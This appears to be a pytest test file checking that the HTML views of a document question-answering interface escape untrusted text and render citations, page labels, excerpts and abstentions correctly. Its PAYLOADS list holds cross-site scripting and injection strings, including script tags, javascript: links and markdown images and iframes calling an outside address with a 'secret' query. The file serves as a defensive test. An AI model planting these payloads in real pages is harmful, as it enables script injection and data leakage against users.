"""What documents and people write is shown as written, wherever it stands."""

from __future__ import annotations

import html
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.results import Comparison, Mentioned, Mentions, Side
from rag.types import Citation, Document, Page, Part, Role, Source, Span, Status
from rag.ui.choice import skipped
from rag.ui.evidence import AROUND, evidence, excerpt
from rag.ui.html import Html, join, link, marked, place, showable
from rag.ui.reply import asked, growing, notice
from rag.ui.views import compared_view, mentions_view, related_view
from tests.ui.fakes import LANDMINES, FakeLibrary, abstained, answered, citation, document

LITERAL = re.compile(r"(?:[A-Za-z0-9 ]|[^\x00-\x7f]|&#\d+;)*")
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![seen](http://203.0.113.9/?q=secret)",
    "[a link](javascript:alert(1))",
    '<div style="position:fixed;inset:0;background:url(http://203.0.113.9/)">',
    "<form action=http://203.0.113.9><input autofocus></form>",
    "<!-- --> <style>*{display:none}</style> <iframe src=//203.0.113.9>",
    "| a | b |\n|---|---|\n| ![x](http://203.0.113.9/t) | 1 |",
    "$$\\href{javascript:alert(1)}{x}$$ and \\(x\\)",
    "```mermaid\ngraph TD\n```",
    '" onmouseover="alert(1)',
    "</mark></article></section><h1>not ours</h1>",
    "line\n\n# heading\n\n    code\n\n- list",
    "&lt;b&gt; &amp; &#60;",
    "www.example.com http://example.com someone@example.com",
    "{{7*7}} ${7*7} {0} {status}",
    "\ud800 lone \udfff \x00 nul \x1b[31m",
    "\u202egpj.exe <b>שלום</b>",
]
OURS = {
    "a", "article", "bdi", "blockquote", "button", "details", "div", "h3", "h4", "li", "mark", "p",
    "q", "section", "small", "span", "strong", "summary", "sup", "ul",
}  # fmt: skip


class Outline(HTMLParser):
    """The tags, attribute names and text of a piece of HTML."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.targets: list[str] = []
        self.text = ""
        self.marked = ""
        self.strong = ""
        self._open: list[str] = []
        self.feed(str(source))  # a plain string: what is added to it stays as it is
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._open.append(tag)
        self.attributes.update(name for name, _ in attrs)
        self.targets += [value or "" for name, value in attrs if name in {"href", "src"}]

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        self.marked += data * ("mark" in self._open)
        self.strong += data * ("strong" in self._open)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_text_holds_nothing_that_html_or_markdown_acts_on(payload: str) -> None:
    """Hostile text becomes letters, digits, blanks and entities, and reads as it was written."""
    escaped = Html.escape(payload)
    assert LITERAL.fullmatch(escaped)
    assert html.unescape(escaped) == showable(payload)


@given(st.text(st.characters()))
def test_any_text_survives_escaping(text: str) -> None:
    """Whatever the text, it can be sent as UTF-8 and reads as before, bar what cannot be shown."""
    escaped = Html.escape(text)
    assert LITERAL.fullmatch(escaped)
    assert html.unescape(escaped) == showable(text)
    escaped.encode("utf-8")


def test_format_and_join_let_in_html_as_it_is_and_text_literally() -> None:
    """Nesting finished HTML does not escape it twice, and plain text is escaped once."""
    inner = Html("<b>{}</b>").format("<i>")
    assert join([inner, Html.escape("&")]) == "<b>&#60;i&#62;</b>&#38;"
    assert Html("<p>{}</p>").format(inner) == "<p><b>&#60;i&#62;</b></p>"


@given(st.text(max_size=40), st.data())
def test_marks_cover_exactly_their_spans(text: str, data: st.DataObject) -> None:
    """The marked and the strong characters are those of the two spans, and no text is lost."""
    offset = data.draw(st.integers(0, 9))
    ends = st.integers(0, len(text))
    spans = [Span(*sorted((data.draw(ends), data.draw(ends)))) for _ in range(2)]
    quote, answer = (span.shift(offset) for span in spans)
    found = Outline(marked(text, quote, answer, offset))
    assert found.text == showable(text)
    assert found.marked == showable(spans[0].of(text))
    assert found.strong == showable(spans[1].of(text))


@pytest.mark.parametrize(
    ("pages", "of", "words"),
    [
        ([(1, "1")], 1, "page 1"),
        ([(4, "4")], 150, "page 4 of 150"),
        ([(4, "iv")], 150, "page iv (4 of 150)"),
        ([(4, "iv"), (5, "v")], 150, "pages iv\u2013v (4\u20135 of 150)"),
        ([(1, "1"), (2, "2")], 2, "pages 1\u20132"),
        ([(7, "")], 9, "page 7 of 9"),
    ],
)
def test_pages_are_named_as_printed_and_as_counted(
    pages: list[tuple[int, str]], of: int, words: str
) -> None:
    """A printed label that differs from the count is given together with it."""
    edges = [(number - 1, number) for number in range(1, of + 1)]
    labels = dict(pages)
    every = tuple(Page(end, labels.get(end, str(end)), Span(start, end)) for start, end in edges)
    source = Document("d" * 64, "a.pdf", "A", "x" * of, every)
    cited = tuple(every[number - 1] for number, _ in pages)
    span = Span(cited[0].span.start, cited[-1].span.end)
    quote = span.of(source.text)
    assert place(Citation(1, source, span, quote, cited, Status.VERBATIM)) == words


def test_each_status_differs_in_words_shape_and_sign() -> None:
    """No two statuses look or read the same, colours aside."""
    source = document("words")
    seen = set()
    for status in Status:
        made = Citation(1, source, Span(0, 5), "words", source.pages, status)
        found = Outline(link(made, "cite-1-1"))
        seen.add((found.text, status.value))
        assert f'class="cite {status.value}"' in link(made, "cite-1-1")
    assert len({text for text, _ in seen}) == len(Status)


def test_an_attribution_stands_once_above_the_statements_it_covers() -> None:
    """Statements of one document in a row share one attribution, each keeps its citation."""
    answer = FakeLibrary().answers[LANDMINES]
    steps = list(growing(answer, 3))
    whole = Outline(steps[-1])
    assert len(steps) == len(answer.statements)
    assert whole.text.count("Ombudsman of Azerbaijan, 15 January 2023:") == 1
    assert whole.strong == "274"
    views = ["#mentions-3", "#compare-3"]
    assert whole.targets == ["#cite-3-1", "#cite-3-2", "#evidence-3", *views]
    assert Outline(steps[0]).targets == ["#cite-3-1"]


def test_several_documents_stand_by_speaker_in_the_order_of_time() -> None:
    """However good each sentence is: the earliest voice first, each voice's together and by date,
    who tells what others say last, and each statement with its own number.
    """
    about = [("B", "2022-05"), ("A", "2023-01-15"), ("C", "2019"), ("A", "2021"), ("D", "")]
    quotes = [
        replace(
            citation(document(f"{who} says {place}.", speaker=who, date=date), "says", place),
            document=document(f"{who} says {place}.", speaker=who, date=date, secondary=who == "C"),
        )
        for place, (who, date) in enumerate(about, 1)
    ]
    *_, whole = growing(answered("Who?", quotes), 7)
    assert re.findall(r'class="who"><bdi>(.*?)</bdi>', whole.unescape()) == [
        "A, 2021", "A, 15 January 2023", "B, May 2022", "D", "C, 2019",
    ]  # fmt: skip
    assert re.findall(r'href="#cite-7-(\d)', whole.unescape()) == ["4", "2", "1", "5", "3"]


def test_an_abstention_says_so_gives_its_reason_and_cites_what_is_near() -> None:
    """Nothing is stated; the verdict, the reason and the nearest passage can be read."""
    near = citation(document("Only this is here.", speaker="A"), "Only this is here.")
    (message,) = growing(abstained("Why?", [near], "It is silent."), 1)
    found = Outline(message)
    assert "The documents do not say." in found.text
    assert "It is silent." in found.text
    assert "Nearest passages" in found.text
    assert found.targets == ["#cite-1-1", "#mentions-1", "#compare-1"]


def test_the_quote_is_marked_inside_its_surroundings() -> None:
    """The excerpt marks the quote and within it the answer, and is cut between words."""
    text = " ".join(f"word{number}" for number in range(300))
    source = document(text)
    found = Outline(excerpt(citation(source, "word150 word151 word152", 1, "word151")))
    assert found.marked == "word150 word151 word152"
    assert found.strong == "word151"
    shown = found.text.strip(" …")
    assert f" {shown} " in f" {text} "
    assert AROUND <= len(shown) - len(found.marked) + 16 <= 2 * AROUND + 16
    assert found.text.strip().startswith("…")
    assert found.text.strip().endswith("…")


def test_paragraphs_stay_apart_and_a_quote_may_cross_them() -> None:
    """Blank lines divide the excerpt, the mark goes on behind them, and short ends are left out."""
    source = document("One ends here.\n\n\nTwo begins and ends.\n\nThree.")
    made = excerpt(citation(source, "ends here.\n\n\nTwo begins"))
    assert made.count("<p>") == 2
    assert Outline(made).marked == "ends here.Two begins"


def test_a_card_says_what_its_quote_stands_under_and_how_sure_it_is() -> None:
    """Headings, a paragraph's number, and a doubtful recognition stand beside the page."""
    text = "<i>Mines</i>\n1. One was seen.\n2. Two were seen."
    parts = (Part(Span(0, 12), Role.HEADING, 1), Part(Span(13, len(text)), Role.RECOGNISED, 60))
    source = replace(document(text), parts=parts)
    card = evidence(answered("Why?", [citation(source, "Two were seen.")]), 1)
    said = Outline(card).text
    assert "<i>Mines</i>" in said
    assert "paragraph 2" in said
    assert "recognised text, 60 %, doubtful: compare it with the page" in said


def mentions(words: str, cited: Citation) -> Mentions:
    """One mention, in a document that says no more, and one that is silent."""
    counted = Mentioned(cited.document, 1, ((cited.pages[0], 1),))
    return Mentions(words, (words,), (cited,), (counted,), (cited.document,), 1, "f" * 64)


def comparison(words: str, cited: Citation) -> Comparison:
    """One source that answers and one that does not."""
    sides = (answered(words, [cited]), abstained(words, [cited], words))
    return Comparison(words, tuple(Side(words, words, ("d",), each) for each in sides))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_becomes_an_element(payload: str) -> None:
    """In text, title, path, speaker, question, reason and error there are only our own tags."""
    source = document(
        f"Before. {payload} After.", title=payload, path=f"{payload}.txt", speaker=payload
    )
    cited = citation(source, payload)
    views = [
        *growing(answered(payload, [cited]), 1),
        *growing(abstained(payload, [cited], payload), 1),
        evidence(answered(payload, [cited], [citation(source, payload, 2)]), 1),
        asked(payload, 1),
        notice(payload),
        related_view([cited]),
        mentions_view(mentions(payload, cited)),
        compared_view(comparison(payload, cited)),
        skipped([Source(payload, None, reason=payload)]),
    ]
    for view in views:
        found = Outline(view)
        assert found.tags <= OURS
        assert found.attributes <= {"class", "href", "id", "tabindex", "title", "type"}
        assert all(
            re.fullmatch(
                r"#(cite|evidence|answer|edit|mentions|compare)(-\d+)+|#related-\w+:\d+-\d+|"
                r"/\?cite=\w+:\d+-\d+",
                to,
            )
            for to in found.targets
        )
        assert showable(payload) in found.text or "\n\n" in payload
        assert "\n" not in view
        view.encode("utf-8")
